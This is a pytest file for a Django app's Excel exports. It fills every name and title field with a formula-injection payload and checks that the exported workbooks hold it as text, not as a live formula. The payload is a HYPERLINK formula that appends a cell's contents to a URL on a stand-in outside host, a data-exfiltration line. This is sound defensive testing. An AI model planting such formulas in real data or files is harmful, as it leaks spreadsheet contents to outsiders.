"""No name becomes a formula in any Excel export.

Every person, unit, organisation, criterion and indicator name (and every other ``name``/
``title`` column) is rewritten to start with "=" before each XLSX screen of the URL table is
downloaded; the file is read back with openpyxl: no cell is a formula, and the hostile text is
there as text.
"""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from tests.test_url_scope import CASES

XLSX_SCREENS = sorted(name for name in CASES if "xlsx" in name or name.endswith("_export"))
HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào")'
FIELDS = {"name", "full_name", "title", "display_name", "short_name"}


def _poison() -> int:
    changed = 0
    for model in apps.get_models():
        if not model.__module__.startswith("ntm."):
            continue
        for field in model._meta.concrete_fields:
            if field.name in FIELDS and isinstance(field, models.CharField):
                room = max(0, (field.max_length or 200) - len(HOSTILE))
                for pk, value in model._default_manager.values_list("pk", field.attname):
                    text = f"{HOSTILE}{(value or '')[:room]}"[: field.max_length]
                    model._default_manager.filter(pk=pk).update(**{field.attname: text})
                    changed += 1
    return changed


def test_every_xlsx_screen_is_checked() -> None:
    assert {"criteria:set_export", "reports:report_xlsx", "reports:rollup_xlsx"} <= set(
        XLSX_SCREENS
    )


@pytest.mark.django_db
@pytest.mark.parametrize("name", XLSX_SCREENS)
def test_names_starting_with_equals_stay_text(
    name: str, client: Any, world: Any, reporting: Any, today: Any
) -> None:
    case = CASES[name]
    url = reverse(name, kwargs=case.kwargs(world) if case.kwargs else None)
    assert _poison() > 0
    client.force_login(world.users[case.insider])
    response = client.get(url)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    formulas, hostile = [], 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                # The criteria workbook escapes with an apostrophe its import removes again.
                if isinstance(cell.value, str) and cell.value.startswith((HOSTILE, "'" + HOSTILE)):
                    hostile += 1
    assert not formulas, formulas[:10]
    assert hostile > 0, f"{name}: no cell starts with the hostile name: the check proves nothing"
